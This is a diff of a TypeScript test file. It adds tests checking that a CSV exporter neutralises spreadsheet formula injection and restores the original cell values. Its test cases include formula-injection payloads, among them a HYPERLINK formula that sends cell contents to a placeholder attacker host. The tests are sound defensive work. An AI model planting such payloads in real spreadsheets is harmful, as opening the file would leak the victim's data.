@@ -1,6 +1,17 @@
-import { array, asyncProperty, assert, constantFrom, date, integer, option, record, string } from "fast-check";
+import {
+	array,
+	asyncProperty,
+	assert,
+	constantFrom,
+	date,
+	integer,
+	option,
+	property,
+	record,
+	string,
+} from "fast-check";
 import { beforeAll, expect, test } from "vitest";
-import { writeCsv } from "#app/evidence/import/csv.ts";
+import { asItWas, writeCsv } from "#app/evidence/import/csv.ts";
 import { exportRows } from "#app/evidence/import/export.ts";
 import type { Facts } from "#app/evidence/import/fact.ts";
 import type { Upload } from "#app/evidence/import/file.ts";
@@ -75,5 +86,33 @@ test("any participant, whatever stands in the cells, survives export and import"
 			expect(again.changes).toEqual([]);
 		}),
 		{ numRuns: 60 },
+	);
+});
+
+/** The one cell between two others, as it stands in the file. */
+const inFile = (cell: string) => writeCsv([["SEMI", cell, "ngo"]]).slice("\ufeffSEMI,".length, -",ngo\r\n".length);
+const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
+
+test.each([
+	"x;=1+1;y",
+	'x;=HYPERLINK("http://evil.example/?"&A1,"ok");y',
+	"x\t@SUM(A1)",
+	"x\n=1+1;",
+	'x;"=1+1;y',
+	"x;'=1+1",
+	";;-1;+1",
+	"a\n- one\n- two",
+])("nothing within a cell is run where a spreadsheet cuts at semicolons: %j", (cell) => {
+	const pieces = inFile(cell).split(/[;\t\n\r]/u);
+	expect(pieces.filter((piece) => /^"*[=+\-@]/u.test(piece))).toEqual([]);
+	expect(asItWas(unquoted(inFile(cell)))).toBe(cell);
+});
+
+test("what was made harmless comes back as it was, whatever it is", () => {
+	assert(
+		property(string({ unit: constantFrom(..."=+-@'\",;\t\n\ra ".split("")), maxLength: 10 }), (cell) => {
+			expect(asItWas(unquoted(inFile(cell)))).toBe(cell);
+		}),
+		{ numRuns: 3000 },
 	);
 });
